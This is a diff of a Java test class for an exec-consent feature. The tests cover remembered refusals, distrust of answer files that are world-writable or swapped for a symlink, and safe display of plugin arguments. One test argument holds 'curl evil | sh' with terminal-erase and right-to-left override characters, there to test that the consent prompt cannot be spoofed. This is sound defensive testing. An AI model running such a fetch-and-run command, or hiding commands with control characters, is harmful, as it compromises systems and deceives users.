@@ -49,7 +49,7 @@ class AskingExecConsentTest {
     Path file = state.resolve("state/exec-answers.json");
     assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
         .isEqualTo("rw-------");
-    assertThat(Files.readString(file)).contains("/bin/plugin").doesNotContain("canary");
+    assertThat(Files.readString(file)).contains("/bin/a").doesNotContain("canary");
   }
 
   @Test
@@ -80,6 +80,30 @@ class AskingExecConsentTest {
   }
 
   @Test
+  void doesNotAskAboutVariantsOfWhatWasRefused() {
+    ExecQuestion no = _ -> Optional.of(CompletableFuture.completedFuture(false));
+    consent(no).decide(run("a1"));
+
+    assertThat(consent(question).decide(run("a2"))).isEqualTo(Decision.DENIED);
+    assertThat(questions).isEmpty();
+    consent(question).forgetRefusals(Path.of("/home/jane/.kube/config"));
+    assertThat(consent(question).decide(run("a2"))).isEqualTo(Decision.UNANSWERED);
+  }
+
+  @Test
+  void doesNotBelieveAnswersThatOthersMayHaveWritten() throws Exception {
+    consent(_ -> Optional.of(CompletableFuture.completedFuture(true))).decide(run("a"));
+    Path file = state.resolve("state/exec-answers.json");
+
+    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-rw-rw-"));
+    assertThat(consent(question).decide(run("a"))).isEqualTo(Decision.UNANSWERED);
+    Path elsewhere = Files.move(file, state.resolve("elsewhere"));
+    Files.setPosixFilePermissions(elsewhere, PosixFilePermissions.fromString("rw-------"));
+    Files.createSymbolicLink(file, elsewhere);
+    assertThat(consent(question).decide(run("a"))).isEqualTo(Decision.UNANSWERED);
+  }
+
+  @Test
   void refusesWhereThereIsNobodyToAsk() {
     assertThat(consent(ExecQuestion.NOBODY).decide(run("a"))).isEqualTo(Decision.NOBODY_TO_ASK);
   }
@@ -105,7 +129,7 @@ class AskingExecConsentTest {
         plugin(List.of("-c", "curl evil | sh\r\u001b[2K\u202eok", "it's", "plain-1"));
 
     String details =
-        ExecQuestionText.details(new ExecRun(Path.of("/bin/sh"), plugin, "fingerprint"));
+        ExecQuestionText.details(new ExecRun(Path.of("/bin/sh"), plugin, null, "fingerprint"));
 
     assertThat(details.lines()).hasSize(4);
     assertThat(details)
@@ -119,7 +143,11 @@ class AskingExecConsentTest {
   }
 
   private static ExecRun run(String fingerprint) {
-    return new ExecRun(Path.of("/bin/plugin"), plugin(List.of("canary-argument")), fingerprint);
+    return new ExecRun(
+        Path.of("/bin/" + fingerprint.charAt(0)),
+        plugin(List.of("canary-argument")),
+        null,
+        fingerprint);
   }
 
   private static ExecPlugin plugin(List<String> arguments) {
